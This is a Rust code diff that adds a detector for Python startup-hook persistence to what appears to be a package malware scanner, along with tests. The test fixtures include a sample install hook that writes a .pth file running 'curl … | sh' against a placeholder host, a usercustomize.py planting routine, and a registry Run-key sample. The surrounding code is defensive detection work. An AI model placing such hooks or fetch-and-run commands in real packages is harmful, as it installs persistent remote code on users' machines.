@@ -117,6 +117,55 @@ fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecCo
     );
 }
 
+/// A `.pth` file with an `import` line, or a `sitecustomize.py` / `usercustomize.py`,
+/// written by the code: Python itself runs them at every interpreter start, so the code
+/// outlives the package that planted it. Editable installs write `.pth` files too, but of
+/// paths, which run nothing; build backends put theirs in the wheel, not in site-packages.
+fn check_startup_hook(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
+    let Expr::Attribute(attribute) = &*call.func else {
+        return;
+    };
+    let Some(path) = checker.written_path(&attribute.value) else {
+        return;
+    };
+    let lower = path.text.to_ascii_lowercase();
+    let file = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
+    let runs_code = if file.ends_with(".pth") {
+        call.arguments
+            .args
+            .first()
+            .and_then(|content| checker.scopes.fold_lossy(content))
+            .is_some_and(|text| {
+                text.lines().any(|line| {
+                    line.trim_start().starts_with("import ")
+                        || line.trim_start().starts_with("import\t")
+                })
+            })
+    } else {
+        matches!(file, "sitecustomize.py" | "usercustomize.py")
+    };
+    if !runs_code {
+        return;
+    }
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.7,
+        // pip writes a sitecustomize.py into its isolated build environments when called.
+        ExecContext::Runtime => 0.15,
+        ExecContext::TestOrDocs => 0.05,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "writes `{}`, which the Python interpreter runs at every start, {}",
+            crate::text::shorten(&path.text, 80),
+            context.phrase()
+        ),
+        severity,
+        vec!["autostart", "startup-hook"],
+    );
+}
+
 /// `shortcut.Arguments = '--load-extension=…'`: a Windows shortcut (`WScript.Shell`'s
 /// `CreateShortcut`) rewritten so the browser it starts loads an unpacked extension, every time
 /// the user clicks it. Automation tools pass that flag to a browser they start themselves;
@@ -302,6 +351,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     {
         check_written_command(checker, call, context);
         check_written_payload(checker, call, context);
+        check_startup_hook(checker, call, context);
     }
     if matches!(qualname, "os.chmod" | "pathlib.Path().chmod") || qualname.ends_with(".chmod") {
         let Some(mode) = args
@@ -407,6 +457,18 @@ mod tests {
         let _ = code;
         let code = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n";
         assert!(max_severity("p/setup.py", code, "WH150") >= 0.7);
+    }
+
+    #[test]
+    fn interpreter_start_up_hooks_written_by_code_trigger() {
+        let pth = "import site\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = site.getsitepackages()[0] + '/zz_init.pth'\n        with open(p, 'w') as f:\n            f.write('import os; os.system(\"curl -s https://x.invalid/a | sh\")\\n')\n";
+        assert!(max_severity("p/setup.py", pth, "WH150") >= 0.7);
+        let custom = "import site, pathlib\ndef plant(code):\n    pathlib.Path(site.getusersitepackages(), 'usercustomize.py').write_text(code)\n";
+        let severity = max_severity("p/pkg/m.py", custom, "WH150");
+        assert!((0.1..0.3).contains(&severity), "{severity}");
+        // An editable install's .pth lists paths, which run nothing.
+        let editable = "import site\ndef link(src):\n    with open(site.getsitepackages()[0] + '/__editable__.x.pth', 'w') as f:\n        f.write(src + '\\n')\n";
+        assert!(max_severity("p/pkg/m.py", editable, "WH150") < 0.1);
     }
 
     #[test]
